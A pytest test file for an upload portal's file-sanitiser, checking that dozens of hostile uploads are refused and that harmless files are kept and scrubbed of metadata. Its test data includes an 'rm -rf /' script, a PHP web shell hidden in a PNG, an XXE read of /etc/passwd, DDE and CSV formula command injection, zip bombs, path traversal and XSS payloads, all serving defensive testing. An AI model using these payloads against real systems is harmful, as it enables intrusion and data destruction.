"""Files of those who mean harm, or meant none: what becomes of each, and how long it takes."""

from __future__ import annotations

import io
import struct
import time
import warnings
import zipfile
import zlib

import pytest
from PIL import Image

from config import FileRules
from portal.files import sentences
from portal.files.making_safe import Raw, Refusal, Safe, made_safe
from tests.files.samples import (
    EML,
    HEIC,
    MARK,
    MP3,
    MP4,
    TYPES,
    XML,
    docx,
    eml,
    gif,
    jpeg,
    odt,
    parted,
    pdf,
    pdf_that,
    picture,
    png,
    xlsx,
    zipped,
)

RULES = FileRules()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELS = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
BOMB = {"[Content_Types].xml": TYPES, "word/document.xml": b"0" * 40_000_000}


def tar() -> bytes:
    return b"a.txt".ljust(257, b"\0") + b"ustar\x0000" + b"\0" * 500


def huge_png(side: int = 14_000) -> bytes:
    """A picture of a few bytes that says it has hundreds of millions of dots."""
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    chunks = b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        for name, body in ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b""))
    )
    return b"\x89PNG\r\n\x1a\n" + chunks


def bits_png() -> bytes:
    out = io.BytesIO()
    Image.new("1", (9000, 9000)).save(out, "PNG")
    return out.getvalue()


def lying_zip() -> bytes:
    """A document one of whose parts unpacks to more than its table of contents says."""
    whole = bytearray(docx())
    at = whole.find(b"PK\x01\x02")
    whole[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(whole)


def twice() -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "w") as archive:
        for name in ("[Content_Types].xml", "word/document.xml", "word/document.xml"):
            archive.writestr(name, TYPES)
    return out.getvalue()


def locked_zip() -> bytes:
    whole = bytearray(docx())
    at = whole.find(b"PK\x01\x02")
    whole[at + 8] |= 1
    return bytes(whole)


HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "nothing": ("a.pdf", b"", sentences.EMPTY),
    "a program": ("a.exe", b"MZ\x90\0" + b"\0" * 200, sentences.PROGRAM),
    "a program called a PDF": ("letter.pdf", b"MZ\x90\0" + b"\0" * 200, sentences.PROGRAM),
    "a program called a picture": ("me.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 200, sentences.PROGRAM),
    "a program of a Mac": ("a.txt", b"\xcf\xfa\xed\xfe" + b"\0" * 100, sentences.PROGRAM),
    "Java": ("a.png", b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 100, sentences.PROGRAM),
    "two endings": ("letter.pdf.exe", pdf(), ".exe"),
    "an ending turned around": ("letter\u202efdp.exe", pdf(), ".exe"),
    "a shell script": ("a.txt", b"#!/bin/sh\nrm -rf /", sentences.PROGRAM),
    "a link of Windows": ("a.txt", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, sentences.PROGRAM),
    "a page": ("a.html", b"<p>x", sentences.PAGE),
    "a page called text": ("a.txt", b"<html><script>alert(1)</script>", sentences.PAGE),
    "a page behind spaces": ("a.txt", b"\xef\xbb\xbf \r\n<!doctype html>", sentences.PAGE),
    "a page of sixteen bits": ("a.txt", "<html><script>".encode("utf-16"), sentences.PAGE),
    "a drawing": ("a.svg", b"<svg onload=alert(1)>", sentences.PAGE),
    "a drawing called a picture": ("a.png", b"<?xml version='1.0'?><svg xmlns='x'/>", sentences.PAGE),
    "PostScript": ("a.pdf", b"%!PS-Adobe-3.0\n(x) run", sentences.PAGE),
    "an archive": ("a.zip", zipped({"x": b"1"}), ".zip"),
    "an archive called a document": ("a.docx", zipped({"x": b"1"}), sentences.ARCHIVE),
    "tar": ("a.txt", tar(), sentences.ARCHIVE),
    "gzip": ("a.csv", b"\x1f\x8b\x08\0" + b"\0" * 50, sentences.ARCHIVE),
    "rar": ("a.pdf", b"Rar!\x1a\x07\x01\0" + b"\0" * 50, sentences.ARCHIVE),
    "seven": ("a.pdf", b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, sentences.ARCHIVE),
    "a script by its name": ("a.js", b"alert(1)", ".js"),
    "a registry file": ("a.reg", b"Windows Registry Editor", ".reg"),
    "RTF": ("a.rtf", rb"{\rtf1\ansi x}", ".rtf"),
    "RTF called a document": ("a.docx", rb"{\rtf1\ansi{\object\objdata 01}}", ".docx"),
    "old Word": ("a.doc", OLE, sentences.LOCKED),
    "old or locked Word called new": ("a.docx", OLE, sentences.LOCKED),
    "a document with macros": ("a.docx", docx(word__vbaProject_DOT_bin=b"x"), sentences.MACROS),
    "a document with macros by its name": ("a.docm", docx(word__vbaProject_DOT_bin=b"x"), ".docm"),
    "macros by their type": (
        "a.docx",
        docx(word__x_DOT_xml=b"<a t='application/vnd.ms-word.document.macroEnabled'/>"),
        sentences.MACROS,
    ),
    "macros of a workbook": ("a.xlsx", xlsx(xl__macrosheets__s_DOT_xml=b"<x/>"), sentences.MACROS),
    "ActiveX": ("a.docx", docx(word__activeX__a_DOT_xml=b"<x/>"), sentences.MACROS),
    "a program within a document": ("a.docx", docx(word__embeddings__a_DOT_exe=b"MZ"), sentences.PACKED),
    "a package within a document": ("a.docx", docx(word__embeddings__oleObject1_DOT_bin=OLE), sentences.PACKED),
    "an archive within a document": ("a.docx", docx(word__media__a_DOT_zip=b"PK"), sentences.PACKED),
    "a template from elsewhere": ("a.docx", docx(word___rels__settings_DOT_xml_DOT_rels=RELS), sentences.OUTSIDE),
    "DDE": ("a.docx", docx(word__f_DOT_xml=b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"), sentences.OUTSIDE),
    "DDE of a workbook": (
        "a.xlsx",
        xlsx(xl__externalLinks__e_DOT_xml=b"<ddeLink ddeService='cmd'/>"),
        sentences.OUTSIDE,
    ),
    "entities": (
        "a.docx",
        docx(word__e_DOT_xml=b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"),
        sentences.BROKEN,
    ),
    "entities of sixteen bits": (
        "a.docx",
        docx(word__e_DOT_xml="<!DOCTYPE x [<!ENTITY a 'b'>]>".encode("utf-16")),
        sentences.BROKEN,
    ),
    "a path that climbs": ("a.docx", docx(**{"..__..__evil": b"x"}), sentences.BROKEN),
    "a path of Windows": ("a.docx", docx(**{"C:__evil": b"x"}), sentences.BROKEN),
    "a bomb": ("a.docx", zipped(BOMB), sentences.BOMB),
    "a bomb of many": (
        "a.docx",
        zipped(
            {
                **dict.fromkeys((f"word/{n}.xml" for n in range(2001)), b""),
                "[Content_Types].xml": TYPES,
                "word/document.xml": XML,
            }
        ),
        sentences.BOMB,
    ),
    "a bomb that lies": ("a.docx", lying_zip(), ""),
    "one name twice": ("a.docx", twice(), sentences.BROKEN),
    "a locked part": ("a.docx", locked_zip(), sentences.LOCKED),
    "a locked open document": (
        "a.odt",
        zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"x",
                "META-INF/manifest.xml": b"<manifest:encryption-data/>",
            }
        ),
        sentences.LOCKED,
    ),
    "scripts of an open document": (
        "a.odt",
        zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"x",
                "META-INF/manifest.xml": b"x",
                "Basic/script.xml": b"x",
            }
        ),
        sentences.MACROS,
    ),
    "a table called a document": (
        "a.odt",
        zipped(
            {
                "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                "content.xml": b"x",
                "META-INF/manifest.xml": b"x",
            }
        ),
        ".odt",
    ),
    "no archive": ("a.docx", b"PK\x03\x04 no zip", sentences.BROKEN),
    "a PDF that runs": ("a.pdf", pdf_that("runs"), sentences.MACROS),
    "a PDF that starts a program": ("a.pdf", pdf_that("starts"), sentences.MACROS),
    "a PDF that holds a program": ("a.pdf", pdf_that("holds"), sentences.PACKED),
    "a locked PDF": ("a.pdf", pdf_that("locked"), sentences.LOCKED),
    "a PDF cut off": ("a.pdf", pdf()[:300], sentences.BROKEN),
    "a PDF of a head alone": ("a.pdf", b"%PDF-1.7\n%%EOF", sentences.BROKEN),
    "a PDF that is an archive too": ("a.pdf", pdf() + zipped({"a": b"1"}), sentences.TWO_IN_ONE),
    "a PDF behind a picture": ("a.pdf", jpeg() + pdf(), ".pdf"),
    "a picture that is an archive too": ("a.jpg", jpeg() + zipped({"a": b"1"}), sentences.TWO_IN_ONE),
    "a picture that is a page too": ("a.gif", gif() + b"<script>alert(1)</script>", sentences.TWO_IN_ONE),
    "a picture that is PHP too": ("a.png", png() + b"<?php system($_GET[0]); ?>", sentences.TWO_IN_ONE),
    "a picture that is a script too": ("a.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", sentences.BROKEN),
    "a picture that is a PDF too": ("a.png", png() + pdf(), sentences.TWO_IN_ONE),
    "a picture cut off": ("a.jpg", jpeg((600, 400))[:2500], sentences.BROKEN),
    "a picture called another": ("a.png", jpeg(), ".png"),
    "a picture of 196 million dots": ("a.png", huge_png(), "25 million"),
    "a picture of 81 million bits": ("a.png", bits_png(), "25 million"),
    "noise called a picture": ("a.tiff", b"II*\0" + b"\xff" * 400, sentences.BROKEN),
    "noise": ("a", bytes(range(256)), sentences.NO_ENDING),
    "zeros in a text": ("a.txt", b"words" + b"x" * 5000 + b"\0", ".txt"),
    "a table that starts a program": ("a.csv", b"name,=cmd|'/C calc'!A0\r\n", "spreadsheet"),
    "the scanners' test file": ("a.txt", EICAR, sentences.TEST_VIRUS),
    "the test file in a document": (
        "a.docx",
        zipped({"[Content_Types].xml": TYPES, "word/document.xml": XML, "word/a.xml": EICAR}),
        sentences.TEST_VIRUS,
    ),
    "a program in an e-mail": ("a.eml", eml(("evil.exe", b"MZ\x90\0")), sentences.PROGRAM),
    "a program in an e-mail called a PDF": ("a.eml", eml(("letter.pdf", b"MZ\x90\0")), sentences.PROGRAM),
    "a program in an e-mail within an e-mail": (
        "a.eml",
        eml(within=eml(("evil.exe", b"MZ\x90\0"))),
        sentences.PROGRAM,
    ),
    "a forwarded e-mail with a program": (
        "a.eml",
        parted(b"Content-Type: message/rfc822\r\n\r\n" + eml(("evil.exe", b"MZ\x90\0"))),
        sentences.PROGRAM,
    ),
    "macros in an e-mail": ("a.eml", eml(("a.docx", docx(word__vbaProject_DOT_bin=b"x"))), sentences.MACROS),
    "an archive in an e-mail": ("a.eml", eml(("a.zip", zipped({"a": b"1"}))), ".zip"),
    "a PDF that runs in an e-mail": ("a.eml", eml(("a.pdf", pdf_that("runs"))), sentences.MACROS),
    "a program in the words of an e-mail": ("a.eml", eml(words="begin 644 evil.exe\nM35J0\nend"), sentences.PACKED),
    "a packed e-mail in an e-mail": (
        "a.eml",
        parted(b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\nRnJvbTogeA=="),
        sentences.PACKED,
    ),
    "an e-mail that fetches a part": (
        "a.eml",
        parted(b"Content-Type: message/external-body; access-type=URL\r\n\r\nContent-Type: text/plain\r\n"),
        sentences.PACKED,
    ),
    "an e-mail of parts without an edge": (
        "a.eml",
        b"From: a@example.org\r\nSubject: x\r\nContent-Type: multipart/mixed\r\n\r\nx",
        sentences.BROKEN,
    ),
    "an e-mail that says twice what it is": (
        "a.eml",
        b"Content-Type: text/plain\r\nFrom: a@example.org\r\nSubject: x\r\nContent-Type: text/html\r\n\r\nx",
        sentences.BROKEN,
    ),
    "an e-mail of many parts": ("a.eml", parted(*[b"Content-Type: text/plain\r\n\r\nx"] * 400), "300 parts"),
    "an e-mail nested without end": (
        "a.eml",
        b"From: a@example.org\r\nSubject: x\r\n" + b"Content-Type: message/rfc822\r\n\r\n" * 5000,
        "",
    ),
    "too large": ("a.txt", b"words " * 2_000_000, "10 MB"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_means_harm_is_refused_in_a_sentence_and_soon(name: str) -> None:
    called, content, sentence = HOSTILE[name]
    began = time.perf_counter()
    (found,) = made_safe([Raw(called, content)], RULES, clean=False)
    assert isinstance(found, Refusal), name
    assert found.sentence.endswith(".")
    assert sentence in found.sentence
    assert time.perf_counter() - began < 10, "a machine with much to do takes longer than the second it is meant to"


def test_the_corpus_is_large_enough() -> None:
    assert len(HOSTILE) >= 60


HARMLESS = {
    "photo.JPG": jpeg(),
    "picture.png": png(),
    "moving.gif": gif(),
    "scan.tiff": picture("TIFF"),
    "small.webp": picture("WEBP"),
    "letter.pdf": pdf(),
    "letter.docx": docx(),
    "table.xlsx": xlsx(),
    "letter.odt": odt(),
    "notes.txt": "Nobody came. é ≠ 𝄞".encode(),
    "notes of old.txt": "Straße".encode("cp1252"),
    "wide.txt": "Nobody came.".encode("utf-16"),
    "table.csv": b"date,what\r\n5 May,-12\r\n",
}
TELLING = {"phone.heic": HEIC, "film.mp4": MP4, "voice.mp3": MP3, "message.eml": EML}
TELLING |= {"with files.eml": eml(("a.jpg", jpeg()), ("a.docx", docx()), within=eml(("b.pdf", pdf())))}


def test_what_means_none_is_kept_as_it_came() -> None:
    for (name, content), found in zip(
        (HARMLESS | TELLING).items(),
        made_safe([Raw(*one) for one in (HARMLESS | TELLING).items()], RULES, clean=False),
        strict=True,
    ):
        assert isinstance(found, Safe), (name, found)
        assert (found.name, found.content, found.cleaned) == (name, content, False)


def test_nothing_that_a_file_tells_of_its_maker_is_left() -> None:
    done = made_safe([Raw(*one) for one in HARMLESS.items()], RULES, clean=True)
    for (name, content), found in zip(HARMLESS.items(), done, strict=True):
        assert isinstance(found, Safe), (name, found)
        assert found.cleaned
        assert MARK.encode() not in unpacked(found.content), name
        assert MARK.encode() in unpacked(content) or name not in {"photo.JPG", "letter.pdf", "letter.docx"}
    (again,) = made_safe([Raw("letter.docx", _content(done, "letter.docx"))], RULES, clean=False)
    assert isinstance(again, Safe)
    assert b"Nobody came." in unpacked(again.content)


def _content(done: list[Safe | Refusal], name: str) -> bytes:
    return next(one.content for one in done if isinstance(one, Safe) and one.name == name)


def unpacked(content: bytes) -> bytes:
    """Return all that is in a file, its archives opened and its streams too."""
    found = [content]
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            found += [archive.read(name) for name in archive.namelist()]
    return b"".join(found)


def test_a_photograph_stays_the_right_way_up() -> None:
    (found,) = made_safe([Raw("a.jpg", jpeg((60, 40), orientation=6))], RULES, clean=True)
    assert isinstance(found, Safe)
    made = Image.open(io.BytesIO(found.content))
    assert made.size == (40, 60)
    assert not dict(made.getexif())


def test_a_moving_picture_still_moves() -> None:
    (found,) = made_safe([Raw("a.gif", gif())], RULES, clean=True)
    assert isinstance(found, Safe)
    assert Image.open(io.BytesIO(found.content)).n_frames == 3


def test_what_cant_be_cleaned_is_refused_with_another_way() -> None:
    for name, content in TELLING.items():
        (found,) = made_safe([Raw(name, content)], RULES, clean=True)
        assert isinstance(found, Refusal), name
        assert "To stay anonymous, send" in found.sentence
        (kept,) = made_safe([Raw(name, content)], RULES, clean=True, as_much=True)
        assert isinstance(kept, Safe)
        assert not kept.cleaned


def test_a_workbook_within_a_document_cant_be_cleaned() -> None:
    (found,) = made_safe([Raw("a.docx", docx(word__embeddings__a_DOT_xlsx=b"PK"))], RULES, clean=True)
    assert isinstance(found, Refusal)
    assert "anonymous" in found.sentence


def test_a_body_may_take_fewer_kinds() -> None:
    (found,) = made_safe([Raw("a.docx", docx())], FileRules(kinds=("pdf",)), clean=False)
    assert isinstance(found, Refusal)


def test_one_that_ends_the_workbench_is_refused_and_the_next_goes_on(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("portal.files.making_safe.MOST_SECONDS", 0)
    (slow,) = made_safe([Raw("a.pdf", pdf())], RULES, clean=False)
    assert isinstance(slow, Refusal)
    monkeypatch.undo()
    (fine,) = made_safe([Raw("a.pdf", pdf())], RULES, clean=False)
    assert isinstance(fine, Safe)
